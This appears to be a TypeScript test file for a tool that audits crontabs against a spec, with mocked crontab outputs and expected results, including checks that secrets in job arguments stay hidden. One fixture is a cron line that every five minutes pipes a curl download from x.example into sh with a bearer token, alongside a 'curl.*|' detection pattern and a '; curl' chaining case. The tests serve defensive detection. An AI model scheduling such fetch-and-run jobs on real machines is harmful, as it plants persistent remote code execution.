import { absent, denied, files, none, ran, type Case } from "../case.ts";
import type { CronSpec } from "./spec.ts";

const nothing: CronSpec = { only: [] };
const noCrontab = ran({ end: { exit: 1 }, stderr: "no crontab for sagemaker-user\n" });
const user = (text: string) => [ran({ stdout: text })];
const empty = [absent, absent, absent, absent, absent, absent];
const download: CronSpec = { command: { matches: "curl.*\\|" }, state: "absent" };
const line = "*/5 * * * * curl -H 'Authorization: Bearer canary-secret' https://x.example | sh\n";

export const cases: readonly Case<CronSpec>[] = [
  { title: "a user without a crontab schedules nothing", spec: nothing, answers: [noCrontab], outcome: "pass" },
  {
    title: "comments, empty lines and variables schedule nothing",
    spec: nothing,
    answers: user('# m h\n\nMAILTO=ana\n "X" = y\n'),
    outcome: "pass",
  },
  {
    title: "a job is named by its schedule and program, and its arguments are not shown",
    spec: nothing,
    answers: user(line),
    outcome: "fail",
    says: "*/5 * * * * curl",
    hides: "canary-secret",
  },
  {
    title: "a variable before the program is not shown either",
    spec: nothing,
    answers: user("@daily TOKEN=canary-secret /home/ana/bin/sync now\n"),
    outcome: "fail",
    says: "@daily /home/ana/bin/sync",
    hides: "canary-secret",
  },
  {
    title: "a quoted variable before the program is shown neither in whole nor in part",
    spec: nothing,
    answers: user('@daily A=1 TOKEN="canary \\" secret" B=\'canary\' /home/ana/bin/sync now\n'),
    outcome: "fail",
    says: "@daily /home/ana/bin/sync",
    hides: "canary",
  },
  {
    title: "where a variable is made by a command, no program can be told from it and none is shown",
    spec: nothing,
    answers: user("@daily TOKEN=$(echo canary-secret x) /home/ana/bin/sync\n"),
    outcome: "fail",
    says: "@daily (a command)",
    hides: "canary",
  },
  {
    title: "credentials in an address that is run are not shown",
    spec: nothing,
    answers: user("@daily ana:canary-secret@x.example/run\n"),
    outcome: "fail",
    says: "@daily ana",
    hides: "canary",
  },
  {
    title: "days and months may have names, and fields any space between them",
    spec: { only: ["/x %y"] },
    answers: user("0\t3 1-7,15  jan-mar mon /x %y\n"),
    outcome: "pass",
  },
  {
    title: "a job that is approved is approved",
    spec: { only: ["/usr/local/bin/backup*"] },
    answers: user("@daily /usr/local/bin/backup -q\n"),
    outcome: "pass",
  },
  {
    title: "an approved program with something after it is not what was approved",
    spec: { only: ["/usr/local/bin/backup"] },
    answers: user("@daily /usr/local/bin/backup; curl x\n"),
    outcome: "fail",
  },
  {
    title: "a job that should not be there is found by its whole command",
    spec: download,
    answers: user(line),
    outcome: "fail",
  },
  {
    title: "another job is none of that kind",
    spec: download,
    answers: user("@daily curl -O https://x.example/a\n"),
    outcome: "pass",
  },
  {
    title: "a job that should be there and is, is",
    spec: { command: "/usr/local/bin/backup", state: "present" },
    answers: user("0 3 * * 1-5 /usr/local/bin/backup\n"),
    outcome: "pass",
  },
  {
    title: "a job that should be there and is not, fails",
    spec: { command: "/usr/local/bin/backup", state: "present" },
    answers: [noCrontab],
    outcome: "fail",
  },
  {
    title: "a line that no crontab knows leaves open what is absent",
    spec: nothing,
    answers: user("whenever I like\n"),
    outcome: { unknown: "unparsable" },
  },
  {
    title: "and not what was found beside it",
    spec: nothing,
    answers: user(`whenever I like\n${line}`),
    outcome: "fail",
  },
  {
    title: "a crontab that was cut off leaves open what is absent",
    spec: nothing,
    answers: [ran({ stdoutTruncated: true })],
    outcome: { unknown: "truncated" },
  },
  {
    title: "busybox says it otherwise",
    spec: nothing,
    answers: [ran({ end: { exit: 1 }, stderr: "crontab: can't open 'ana': No such file or directory\n" })],
    outcome: "pass",
  },
  {
    title: "a user who may not ask tells nothing",
    spec: nothing,
    answers: [ran({ end: { exit: 1 }, stderr: "You (ana) are not allowed to use this program (crontab)\n" })],
    outcome: { unknown: "probe-error" },
  },
  {
    title: "without crontab and spool nothing can be scheduled",
    spec: nothing,
    answers: [ran({ end: { exit: 8 } })],
    outcome: "pass",
  },
  {
    title: "a spool that nobody can ask for tells nothing",
    spec: nothing,
    answers: [ran({ end: { exit: 7 } })],
    outcome: { unknown: "access-denied" },
  },
  {
    title: "a question that timed out tells nothing",
    spec: nothing,
    answers: [ran({ end: { timedOut: true } })],
    outcome: { unknown: "probe-timeout" },
  },
  {
    title: "an answer that did not come tells nothing",
    spec: nothing,
    answers: [none("connection-lost")],
    outcome: { unknown: "connection-lost" },
  },
  {
    title: "a machine without any crontab schedules nothing",
    spec: { only: [], scope: "system" },
    answers: empty,
    outcome: "pass",
  },
  {
    title: "the machine's crontabs have a user before the command",
    spec: { only: [], scope: "system" },
    answers: [
      files({ path: "/etc/crontab", content: "17 * * * * root cd / && run-parts /etc/cron.hourly\n" }),
      files({ path: "/etc/cron.d/x", content: "@reboot root /opt/x\n" }),
      ...empty.slice(2),
    ],
    outcome: "fail",
    says: "/etc/cron.d/x: @reboot /opt/x",
  },
  {
    title: "programs of the daily folder are scheduled, and what cannot be run there is not",
    spec: { only: ["/etc/cron.daily/dpkg"], scope: "system" },
    answers: [
      absent,
      absent,
      absent,
      files({ path: "/etc/cron.daily/dpkg", mode: 0o755 }, { path: "/etc/cron.daily/notes.txt", mode: 0o644 }),
      absent,
      absent,
    ],
    outcome: "pass",
  },
  {
    title: "a folder that is closed leaves open what is absent",
    spec: { only: [], scope: "any" },
    answers: [noCrontab, absent, denied("/etc/cron.d"), ...empty.slice(2)],
    outcome: { unknown: "access-denied" },
  },
  {
    title: "a crontab of the machine that cannot be read leaves open what is absent",
    spec: { only: [], scope: "any" },
    answers: [noCrontab, absent, files({ path: "/etc/cron.d/x", unread: "access-denied" }), ...empty.slice(2)],
    outcome: { unknown: "access-denied" },
  },
];
